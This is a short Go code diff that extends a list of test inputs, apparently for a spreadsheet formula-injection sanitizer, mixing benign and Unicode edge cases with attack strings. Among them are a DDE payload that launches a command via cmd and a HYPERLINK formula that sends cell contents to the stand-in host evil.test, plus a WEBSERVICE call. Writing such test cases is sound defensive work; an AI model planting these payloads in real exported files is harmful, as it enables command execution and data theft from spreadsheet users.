@@ -23,7 +23,8 @@ import (
 func attacks() []string {
 	return []string{
 		`=cmd|' /C calc'!A0`, "+1", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1", "line one\n=line two", "İpek Işık; =1+1", `Muñoz "Ñandú", Íñigo`,
-		`=HYPERLINK("http://evil.test/?"&A1,"x")`,
+		`=HYPERLINK("http://evil.test/?"&A1,"x")`, `=WEBSERVICE("http://127.0.0.1:18099/x")`, "＝1+1", "\u200f=1+1 מיכל",
+		"😀👩‍👧 =1+1", "İıŞşĞğÇç ñáü¿¡ — «x»", "1-2", "3/4", "00123", "1e5", "TRUE", "12:30", "2026-11-30",
 	}
 }
 
